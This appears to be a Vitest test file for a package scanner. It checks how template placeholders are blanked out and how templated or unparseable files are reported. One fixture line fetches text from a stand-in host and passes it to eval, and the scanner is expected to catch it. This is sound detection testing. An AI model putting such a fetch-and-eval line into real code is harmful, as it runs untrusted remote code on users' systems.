import { describe, expect, it } from 'vitest'
import { fillPlaceholders } from '../../../src/code/js/placeholders.ts'
import { rules } from '../../../src/catalog/rules.ts'
import { scanFiles } from '../../support/scan.ts'

describe('placeholders of a template', () => {
  it.each([
    ["exports.{{name}} = {{value}}", "exports.________ = _________"],
    ["{{#if lamp}}\nlight()\n{{/if}}", "            \nlight()\n       "],
    ["<% if (lamp) { %>\nconst glow = <%= value %>\n<% } %>", "                 \nconst glow = ____________\n       "],
    ["import glow from $LAMP\n$OUTPUT", "import glow from '___'\n$OUTPUT"],
    ["require('%NAME%')", "require('______')"],
  ])('%j is filled in place', (text, filled) => {
    expect(fillPlaceholders(text)).toBe(filled)
    expect(filled).toHaveLength(text.length)
  })

  it('a program without any is left alone', () => {
    expect(fillPlaceholders('const lamp = { oil: { litres: 1 } }')).toBeUndefined()
  })
})

describe('a file with placeholders', () => {
  it('is read as a template, with a reservation and without an accusation', async () => {
    const { hits, gaps } = await scanFiles({ 'index.js': "'use strict'\nexports.{{name}} = {{value}}\n" }, rules)
    expect(gaps.map(({ reason }) => reason)).toEqual(['read as a template: what fills its placeholders is not known'])
    expect(hits).toEqual([])
  })

  it('hides nothing that stands beside them', async () => {
    const { hits } = await scanFiles({ 'index.js': "exports.{{name}} = 1\nfetch('https://lamp.example.invalid/x').then(a => a.text()).then(eval)\n" }, rules)
    expect(hits.map(({ ruleId }) => ruleId)).toContain('response-to-code')
  })

  it('is still a gap and a finding when it is no program once they are filled', async () => {
    const { hits } = await scanFiles({ 'index.js': 'exports.{{name}} = ) ]' }, rules)
    expect(hits.map(({ ruleId }) => ruleId)).toEqual(['unanalysed-file'])
  })
})
